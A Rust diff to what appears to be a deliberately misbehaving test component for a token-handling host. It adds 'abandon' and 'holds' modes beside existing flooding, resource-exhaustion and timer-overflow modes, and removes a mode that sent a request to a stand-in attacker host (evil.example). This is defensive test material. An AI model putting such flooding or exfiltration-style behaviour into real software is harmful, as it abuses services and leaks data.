@@ -1,12 +1,15 @@
 //! Says what it must not: its configuration is `answer=` and how.
 
-use wif_guest_kit::types::{Access, Clock, Event, Header, HttpRequest, NumberedTask, Output, Purpose, Start, Task};
+use wif_guest_kit::types::{
+    Access, AssertionRequest, Clock, Event, Header, HttpRequest, NumberedTask, Output, Progress, Purpose, Start, Task,
+};
 use wif_guest_kit::{Behaviour, HOUR_MS, ID, component, saying, serving, word};
 
 struct Lying {
     how: String,
     origin: String,
     steps: u32,
+    results: u32,
     told_the_truth: bool,
 }
 
@@ -15,7 +18,7 @@ component!(Lying);
 impl Behaviour for Lying {
     fn open(configuration: &str, _: &Start) -> Self {
         let word = |key| word(configuration, key).unwrap_or_default().to_owned();
-        Self { how: word("answer"), origin: word("origin"), steps: 0, told_the_truth: false }
+        Self { how: word("answer"), origin: word("origin"), steps: 0, results: 0, told_the_truth: false }
     }
 
     fn step(&mut self, _: &Clock, event: &Event) -> Output {
@@ -26,15 +29,39 @@ impl Behaviour for Lying {
             Some(how) => how,
             None => &self.how,
         };
+        let how = how.to_owned();
         self.told_the_truth = true;
         self.steps += 1;
+        if how == "abandon" {
+            self.abandon(event, &mut output);
+        }
         if how == "flood" {
             output.wake_in_ms = Some(0);
             let request = request(format!("{}/v1/oauth/token", self.origin), self.origin.clone());
             output.tasks.push(NumberedTask { number: self.steps, task: Task::SendRequest(request) });
         }
-        spoil(&mut output, how);
+        spoil(&mut output, &how);
         output
+    }
+}
+
+impl Lying {
+    /// Begins a request and a call, and abandons both when something changes. The token's id tells how many results came.
+    fn abandon(&mut self, event: &Event, output: &mut Output) {
+        self.results += u32::from(matches!(event, Event::Finished(_)));
+        if let Access::Usable(usable) = &mut output.access {
+            usable.id = format!("{:016x}", self.results);
+        }
+        match event {
+            Event::Woken if self.steps == 1 => {
+                let request = request(format!("{}/v1/oauth/token", self.origin), self.origin.clone());
+                output.tasks.push(NumberedTask { number: 1, task: Task::SendRequest(request) });
+                let call = AssertionRequest { name: "slow".to_owned(), audience: String::new() };
+                output.tasks.push(NumberedTask { number: 2, task: Task::SupplyAssertion(call) });
+            }
+            Event::Changed => output.abandon = vec![1, 2],
+            _ => {}
+        }
     }
 }
 
@@ -58,11 +85,11 @@ fn spoil(output: &mut Output, how: &str) {
             let task = |number| NumberedTask { number, task: Task::ReadVariable("HOME".to_owned()) };
             output.tasks = (0..10_000).map(task).collect();
         }
-        "send-elsewhere" => {
-            let request = request("https://evil.example/".to_owned(), "https://api.anthropic.com".to_owned());
-            output.tasks.push(NumberedTask { number: 1, task: Task::SendRequest(request) });
-        }
         "journal" => output.journal = Some("x".repeat(4 << 20)),
+        "holds" => {
+            output.progress = Progress::Underway;
+            output.wait_at_most_ms = u32::MAX;
+        }
         _ => {}
     }
     let Access::Usable(usable) = &mut output.access else { return };
@@ -84,6 +111,7 @@ fn spoil(output: &mut Output, how: &str) {
             usable.hold_in_ms = Some(0);
             usable.unusable_in_ms = Some(HOUR_MS);
         }
+        "holds" => usable.hold_in_ms = Some(0),
         "overflow" => {
             usable.refresh_in_ms = Some(u64::MAX);
             usable.hold_in_ms = Some(u64::MAX);
